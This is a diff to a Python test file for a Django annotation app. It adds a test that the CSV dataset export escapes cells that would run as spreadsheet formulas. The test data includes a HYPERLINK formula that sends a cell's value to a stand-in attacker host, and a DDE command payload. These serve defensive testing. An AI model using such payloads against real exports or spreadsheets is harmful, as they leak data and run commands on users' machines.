@@ -9,7 +9,7 @@ import pyarrow.parquet as pq
 import pytest
 from django.core.exceptions import ValidationError
 
-from annotation import exports
+from annotation import exports, services
 from annotation.consensus import consensus_recompute
 from annotation.models import DatasetSnapshot
 from governance.models import AuditEvent
@@ -99,3 +99,28 @@ def test_bad_format_or_filter_writes_nothing(labelled, rosa):
     with pytest.raises(ValidationError, match="unknown filter"):
         exports.dataset_export(project=labelled, fmt="trl", user=rosa, filters={"colour": "red"})
     assert not DatasetSnapshot.objects.exists()
+
+
+def test_csv_cells_that_would_run_as_formulas_are_escaped(project, anna, rosa):
+    """A hostile external id, prompt and responses reach the CSV inert."""
+    hostile = {
+        "external_id": "@evil",
+        "prompt": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "responses": ["+1+cmd|' /C calc'!A0", "-2+3"],
+    }
+    services.items_create_bulk(project=project, rows=[hostile])
+    services.project_update(project=project, overlap=1)
+    for _ in range(project.items.count()):
+        label(project, anna, "A")
+    consensus_recompute(project=project)
+    snapshot = exports.dataset_export(project=project, fmt="csv", user=rosa)
+    text = _content(snapshot).decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    row = next(r for r in rows if r["external_id"] == "'@evil")
+    assert row["prompt"] == "'" + hostile["prompt"]
+    assert row["response_a"] == "'" + hostile["responses"][0]
+    assert row["response_b"] == "'" + hostile["responses"][1]
+    assert "\"'=HYPERLINK(" in text  # the escaped cell is quoted
+    # Nothing anywhere in the file starts a formula.
+    cells = [cell for r in csv.reader(io.StringIO(text)) for cell in r]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
